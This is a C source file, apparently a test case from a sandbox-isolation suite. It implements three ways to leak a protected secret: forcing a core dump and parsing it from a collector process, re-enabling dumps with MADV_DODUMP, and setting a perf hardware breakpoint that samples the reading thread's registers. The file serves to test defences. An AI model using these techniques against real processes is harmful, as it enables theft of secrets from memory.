/* B12: memory that the kernel writes down for debuggers. A core of the process, ended
 * while the host has its rights open (the kernel leaves out what the dying thread may
 * not read); the same after undoing MADV_DONTDUMP; and a hardware breakpoint on the
 * secret, at which perf notes the registers of the host that reads it.
 *
 * The core is read by a process that was forked off before the sandbox.
 *
 * Source: [core(5)], [madvise(2)], [perf_event_open(2)].
 */
#include <asm/perf_regs.h>
#include <elf.h>
#include <fcntl.h>
#include <linux/hw_breakpoint.h>
#include <linux/perf_event.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include "attack.h"
#include "policy.h"

#define DELAY_NS 10000000 /* the host works four times as long */
#define PERF_BYTES (8 * PAGE_BYTES)

static int ends[2]; /* the secret's address goes to the collector */

static void read_core(int fd, uintptr_t address) {
    unsigned char bytes[SECRET_BYTES];
    Elf64_Ehdr head;
    if (pread(fd, &head, sizeof head, 0) != sizeof head) return;
    for (int i = 0; i < head.e_phnum; i++) {
        Elf64_Phdr part;
        off_t at = (off_t)(head.e_phoff + (size_t)i * sizeof part);
        if (pread(fd, &part, sizeof part, at) != sizeof part) return;
        if (part.p_type != PT_LOAD || address - part.p_vaddr >= part.p_filesz) continue;
        ssize_t count = pread(fd, bytes, sizeof bytes, (off_t)(part.p_offset + (address - part.p_vaddr)));
        if (count > 0) attack_hand_in(bytes, (size_t)count);
    }
}

/* Waits for the process under attack, reads its core, and ends as it ended. */
static _Noreturn void collect(pid_t pid, const char *folder) {
    uintptr_t address = 0;
    int status;
    close(ends[1]);
    if (read(ends[0], &address, sizeof address) < 0) address = 0;
    while (waitpid(pid, &status, 0) < 0 && errno == EINTR) {}
    int fd = open("core", O_RDONLY);
    if (fd >= 0) read_core(fd, address);
    unlink("core");
    rmdir(folder);
    if (WIFSIGNALED(status)) {
        struct rlimit none = {0, 0};
        setrlimit(RLIMIT_CORE, &none);
        signal(WTERMSIG(status), SIG_DFL);
        raise(WTERMSIG(status));
    }
    syscall(SYS_exit_group, WEXITSTATUS(status));
    __builtin_unreachable();
}

static void fork_collector(void) {
    static char folder[] = "/var/tmp/attack-XXXXXX";
    char pattern[8] = "", with_pid = 0;
    int fd = open("/proc/sys/kernel/core_pattern", O_RDONLY), pid_fd = open("/proc/sys/kernel/core_uses_pid", O_RDONLY);
    if (read(fd, pattern, sizeof pattern - 1) < 0 || strcmp(pattern, "core\n")) trouble("core_pattern is not \"core\" here");
    if (read(pid_fd, &with_pid, 1) < 0 || with_pid != '0') trouble("core_uses_pid is not 0 here");
    if (!mkdtemp(folder) || chdir(folder)) trouble("no folder for a core: %s", strerror(errno));
    TRY("pipe2", pipe2(ends, O_CLOEXEC));
    signal(SIGQUIT, SIG_DFL); /* who starts the tests in the background may ignore it */
    pid_t pid = (pid_t)TRY("fork", syscall(SYS_fork));
    if (pid) collect(pid, folder);
}

static void end_soon(void) {
    struct rlimit most;
    struct sigevent quit = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGQUIT};
    struct itimerspec soon = {.it_value = {0, DELAY_NS}};
    uintptr_t address = (uintptr_t)target.secret;
    timer_t timer;
    if (prctl(PR_GET_DUMPABLE) != 1) TRY("prctl", prctl(PR_SET_DUMPABLE, 1));
    TRY("getrlimit", getrlimit(RLIMIT_CORE, &most));
    struct rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY}, allowed = {most.rlim_max, most.rlim_max};
    if (setrlimit(RLIMIT_CORE, &unlimited)) TRY("setrlimit", setrlimit(RLIMIT_CORE, &allowed));
    if (allowed.rlim_max == 0) TRY("setrlimit", setrlimit(RLIMIT_CORE, &unlimited));
    TRY("write", write(ends[1], &address, sizeof address));
    TRY("timer_create", timer_create(CLOCK_MONOTONIC, &quit, &timer));
    TRY("timer_settime", timer_settime(timer, 0, &soon, NULL));
}

static void leave_out(void) {
    if (madvise((void *)target.secret, PAGE_BYTES, MADV_DONTDUMP)) trouble("madvise: %s", strerror(errno));
}

static void put_back(void) {
    TRY("madvise", madvise((void *)target.secret, PAGE_BYTES, MADV_DODUMP));
    end_soon();
}

static struct perf_event_mmap_page *samples;

static void watch(void) {
    struct perf_event_attr event = {
        .type = PERF_TYPE_BREAKPOINT, .size = sizeof event, .bp_type = HW_BREAKPOINT_RW,
        .bp_addr = (uintptr_t)target.secret, .bp_len = HW_BREAKPOINT_LEN_8, .sample_period = 1,
        .exclude_kernel = 1, .exclude_hv = 1, .sample_type = PERF_SAMPLE_REGS_USER,
        .sample_regs_user = 1u << PERF_REG_X86_BX,
    };
    int fd = (int)TRY("perf_event_open", syscall(SYS_perf_event_open, &event, 0, -1, -1, 0));
    void *ring = mmap(NULL, PAGE_BYTES + PERF_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (ring == MAP_FAILED) TRY("mmap", -1);
    samples = ring;
}

static void read_samples(void) {
    if (!samples) return;
    size_t count = samples->data_head < PERF_BYTES ? samples->data_head : PERF_BYTES;
    attack_hand_in((char *)samples + PAGE_BYTES, count);
}

const struct attack attacks[] = {
    {.variant = "core", .prepare = fork_collector, .attack = end_soon, .flags = ATTACK_HOST_WORKS},
    {.variant = "dodump", .prepare = fork_collector, .while_open = leave_out, .attack = put_back,
     .flags = ATTACK_HOST_WORKS},
    {.variant = "perf", .attack = watch, .again = read_samples, .flags = ATTACK_HOST_WORKS},
    {0},
};
